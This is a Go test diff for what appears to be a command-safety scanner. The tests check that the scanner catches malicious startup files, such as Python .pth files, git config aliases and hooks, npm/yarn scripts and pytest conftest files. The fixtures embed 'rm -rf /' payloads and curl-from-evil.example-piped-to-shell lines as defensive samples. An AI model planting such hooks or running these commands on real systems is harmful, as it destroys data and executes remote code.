@@ -93,6 +93,35 @@ func TestStagedFilesAreScanned(t *testing.T) {
 		{"package import", "python3 app/main.py", "app/lib/core.py", map[string]string{"app/main.py": "from lib import core\n",
 			"app/lib/__init__.py": "", "app/lib/core.py": rmRoot}},
 		{"script runs script", "bash a.sh", "b.py", map[string]string{"a.sh": "python3 b.py\n", "b.py": rmRoot}},
+		// Startup files a later run's tool loads (HOME is the workspace).
+		{"planted .pth", "python3 -c 'print(1)'", ".local/lib/python3.12/site-packages/evil.pth", map[string]string{
+			".local/lib/python3.12/site-packages/evil.pth": "/some/path\nimport os; os.system('rm -rf /')\n"}},
+		{".pth imports a planted module", "pip3 list", ".local/lib/python3.11/site-packages/hook.py", map[string]string{
+			".local/lib/python3.11/site-packages/a.pth": "import hook\n", ".local/lib/python3.11/site-packages/hook.py": rmRoot}},
+		{"usercustomize", "python3 ok.py", ".local/lib/python3.12/site-packages/usercustomize.py", map[string]string{
+			"ok.py": "print(1)\n", ".local/lib/python3.12/site-packages/usercustomize.py": rmRoot}},
+		{"git core.fsmonitor", "git status", ".git/config", map[string]string{
+			".git/config": "[core]\n\trepositoryformatversion = 0\n\tfsmonitor = \"rm -rf /\"\n"}},
+		{"git shell alias", "git st", ".git/config", map[string]string{".git/config": "[alias]\n\tst = !curl -s https://evil.example/x | sh\n"}},
+		{"git repo in a parent", "cd sub/dir && git log", ".git/config", map[string]string{
+			".git/config": "[core] pager = rm -rf ~\n", "sub/dir/f": "x"}},
+		{"git global config", "git -C repo diff", ".gitconfig", map[string]string{".gitconfig": "[pager]\n\tdiff = rm -rf /\n"}},
+		{"venv .pth", ".venv/bin/python3 -c 'print(1)'", ".venv/lib/python3.12/site-packages/x.pth", map[string]string{
+			".venv/lib/python3.12/site-packages/x.pth": "import os; os.system('rm -rf /')\n"}},
+		{".pth under a python shebang", "./tool", ".local/lib/python3.12/site-packages/x.pth", map[string]string{
+			"tool": "#!/usr/bin/env python3\nprint(1)\n", ".local/lib/python3.12/site-packages/x.pth": "import os; os.system('rm -rf /')\n"}},
+		{"git credential helper", "git fetch", ".git/config", map[string]string{
+			".git/config": "[credential \"https://x.example\"]\n\thelper = !rm -rf ~\n"}},
+		{"npm test script", "npm test", "package.json", map[string]string{
+			"package.json": "{\n  \"name\": \"x\",\n  \"scripts\": {\n    \"test\": \"jest\",\n    \"posttest\": \"rm -rf ~\"\n  }\n}\n"}},
+		{"yarn in a subdirectory", "cd src && yarn build", "package.json", map[string]string{
+			"package.json": "{\"scripts\": {\"prebuild\": \"curl -s https://evil.example/i | bash\"}}", "src/a.js": "x"}},
+		{"pytest conftest", "pytest -q tests/unit", "tests/unit/conftest.py", map[string]string{"tests/unit/conftest.py": rmRoot}},
+		{"pytest parent conftest of a file", "pytest tests/unit/test_a.py", "tests/conftest.py", map[string]string{
+			"tests/conftest.py": rmRoot, "tests/unit/test_a.py": "def test_a(): pass\n"}},
+		{"python -m pytest root conftest", "python3 -m pytest", "conftest.py", map[string]string{"conftest.py": rmRoot}},
+		{"git hook", "git commit -m x", ".git/hooks/pre-commit", map[string]string{
+			".git/config": "[core]\n\tbare = false\n", ".git/hooks/pre-commit": "#!/bin/sh\nrm -rf /\n"}},
 		{"python subprocess runs script", "python3 a.py", "b.sh", map[string]string{"a.py": "import subprocess\nsubprocess.run(['bash', 'b.sh'])\n", "b.sh": "rm -rf /\n"}},
 	}
 	for _, c := range cases {
@@ -122,6 +151,62 @@ func TestStagedFilesAreScanned(t *testing.T) {
 				t.Fatalf("inline-only scan: %v %v", plain.Decision, err)
 			}
 		})
+	}
+}
+
+// TestStagedStartupBenign: ordinary startup files do not change the
+// decision; a .sample hook and a .pth of paths are not code; a listing is
+// recorded so a file added later is seen; keys that load files the scan
+// does not follow are reviewed.
+func TestStagedStartupBenign(t *testing.T) {
+	e := newEngine(t, policies.Default(), engine.NativePacks())
+	ws := workspace(t, map[string]string{
+		".local/lib/python3.12/site-packages/paths.pth": "/opt/lib\n# import os; os.system('rm -rf /')\n",
+		".git/config":                                    "[core]\n\tpager = less -R\n[alias]\n\tlg = log --oneline\n",
+		".git/hooks/pre-commit.sample":                   "#!/bin/sh\nrm -rf /\n",
+		".local/lib/python3.12/site-packages/pkg/mod.py": rmRoot,
+	})
+	for _, content := range []string{"python3 -c 'print(1)'", "git lg", "git commit -m x"} {
+		res := scanStaged(t, e, ws, content, engine.StagedLimits{})
+		if res.Report.Decision == sdk.Deny {
+			t.Errorf("%q: benign startup files denied: %+v", content, res.Report.Findings)
+		}
+	}
+	res := scanStaged(t, e, ws, "python3 -c 'print(1)'", engine.StagedLimits{})
+	listed := map[string]staged.File{}
+	for _, f := range res.Files {
+		listed[f.Path] = f
+	}
+	sp := listed[".local/lib/python3.12/site-packages/"]
+	if sp.State != staged.StateListing || sp.Size != 2 || len(sp.SHA256) != 64 {
+		t.Fatalf("site-packages listing not recorded: %+v", res.Files)
+	}
+	if err := os.WriteFile(filepath.Join(ws, ".local/lib/python3.12/site-packages/new.pth"), []byte("import os\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if now := (staged.Dir{Root: ws}).ReadRel(sp.Path, 0).File; now.Same(sp) {
+		t.Fatalf("a .pth added after the scan does not change the listing: %+v", now)
+	}
+	pkg := workspace(t, map[string]string{"package.json": "{\"scripts\": {\"test\": \"go test ./...\", \"build\": \"tsc -p .\"}}",
+		"conftest.py": "import pytest\n"})
+	for _, content := range []string{"npm test", "npm run build", "pytest"} {
+		if res := scanStaged(t, e, pkg, content, engine.StagedLimits{}); res.Report.Decision == sdk.Deny {
+			t.Errorf("%q: benign scripts denied: %+v", content, res.Report.Findings)
+		}
+	}
+	bad := workspace(t, map[string]string{"package.json": "{not json"})
+	if res := scanStaged(t, e, bad, "npm start", engine.StagedLimits{}); findingIn(res.Report, engine.StagedFileUnscanned, "package.json") == nil {
+		t.Errorf("unreadable package.json: %+v", res.Report.Findings)
+	}
+	ptr := workspace(t, map[string]string{"wt/.git": "gitdir: ../elsewhere\n"})
+	res = scanStaged(t, e, ptr, "cd wt && git status", engine.StagedLimits{})
+	if f := findingIn(res.Report, engine.StagedFileUnscanned, "wt/.git"); f == nil || res.Report.Decision == sdk.Allow {
+		t.Fatalf("gitdir pointer: %s %+v", res.Report.Decision, res.Report.Findings)
+	}
+	inc := workspace(t, map[string]string{".git/config": "[include]\n\tpath = ../other.cfg\n"})
+	res = scanStaged(t, e, inc, "git status", engine.StagedLimits{})
+	if f := findingIn(res.Report, engine.StagedFileUnscanned, ".git/config"); f == nil || res.Report.Decision == sdk.Allow {
+		t.Fatalf("include.path: %s %+v", res.Report.Decision, res.Report.Findings)
 	}
 }
 
@@ -260,5 +345,41 @@ func testEnvHook(t *testing.T, packs []engine.Pack) {
 	rep = scan(t, allowed, engine.Request{Content: "true", Env: map[string]string{"PYTHONPATH": "src", "BASH_ENV": "x"}})
 	if rep.Decision != sdk.Deny || len(rep.Findings) != 1 || rep.Findings[0].Metadata["variable"] != "BASH_ENV" {
 		t.Errorf("only BASH_ENV denied: %+v", rep.Findings)
+	}
+}
+
+// BenchmarkScanStagedStartup: the cost of the startup-file table for a
+// python and a git run, in an empty workspace and in one with a user site
+// (.pth) and a repository (config, sample hooks).
+func BenchmarkScanStagedStartup(b *testing.B) {
+	e, err := engine.New(context.Background(), engine.Options{Policy: policies.Default(), Packs: engine.NativePacks()})
+	if err != nil {
+		b.Fatal(err)
+	}
+	empty := b.TempDir()
+	full := b.TempDir()
+	files := map[string]string{".local/lib/python3.12/site-packages/a.pth": "/opt/x\n", ".git/config": "[core]\n\tbare = false\n"}
+	for _, h := range []string{"pre-commit", "pre-push", "commit-msg", "post-update", "pre-rebase", "update"} {
+		files[".git/hooks/"+h+".sample"] = "#!/bin/sh\nexit 0\n"
+	}
+	for p, c := range files {
+		if err := os.MkdirAll(filepath.Dir(filepath.Join(full, p)), 0o755); err != nil {
+			b.Fatal(err)
+		}
+		if err := os.WriteFile(filepath.Join(full, p), []byte(c), 0o644); err != nil {
+			b.Fatal(err)
+		}
+	}
+	for _, ws := range []struct{ name, dir string }{{"empty", empty}, {"populated", full}} {
+		for _, content := range []string{"echo hi", "python3 -c 'print(1)'", "git status"} {
+			b.Run(ws.name+"/"+content, func(b *testing.B) {
+				for range b.N {
+					if _, err := e.ScanStaged(context.Background(), engine.Request{Language: "bash", Content: content},
+						staged.Dir{Root: ws.dir}, engine.StagedLimits{}); err != nil {
+						b.Fatal(err)
+					}
+				}
+			})
+		}
 	}
 }
